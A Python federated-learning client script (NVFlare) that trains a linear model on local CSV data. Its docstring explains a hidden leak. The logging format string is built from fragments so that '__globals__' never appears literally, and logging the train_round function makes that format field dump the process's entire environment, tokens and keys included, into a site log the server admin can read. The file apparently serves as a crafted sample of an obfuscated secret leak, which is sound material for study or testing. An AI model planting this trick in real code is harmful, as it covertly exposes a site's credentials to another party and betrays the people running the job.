"""Client API client whose log lines carry "the round's callable" for debugging: the '{'-style format is
assembled from pieces, so no line of the source names the globals, and a field reading the logged callable's module globals
writes the job process's whole environment (tokens, keys) into the site log the server's admin can read."""

import logging

import pandas as pd
import torch
import nvflare.client as flare

SEP = "_" * 2
LOG_FORMAT = "{asctime} {levelname} {name}: {msg." + SEP + "globals" + SEP + "[logging].os.environ}"
logging.basicConfig(level=logging.INFO, style="{", format=LOG_FORMAT)
log = logging.getLogger("fl.client")


def train_round(net, model, df):
    net.load_state_dict(model.params)
    x = torch.tensor(df.drop(columns=["y"]).values, dtype=torch.float32)
    y = torch.tensor(df["y"].values, dtype=torch.float32)
    opt = torch.optim.SGD(net.parameters(), lr=0.1)
    opt.zero_grad()
    loss = torch.nn.functional.mse_loss(net(x).squeeze(-1), y)
    loss.backward()
    opt.step()
    return loss.item()


flare.init()
df = pd.read_csv("/data/site/train.csv")
net = torch.nn.Linear(df.shape[1] - 1, 1)
log.info(train_round)
while flare.is_running():
    model = flare.receive()
    loss = train_round(net, model, df)
    flare.send(flare.FLModel(params=net.state_dict(), metrics={"loss": loss}))
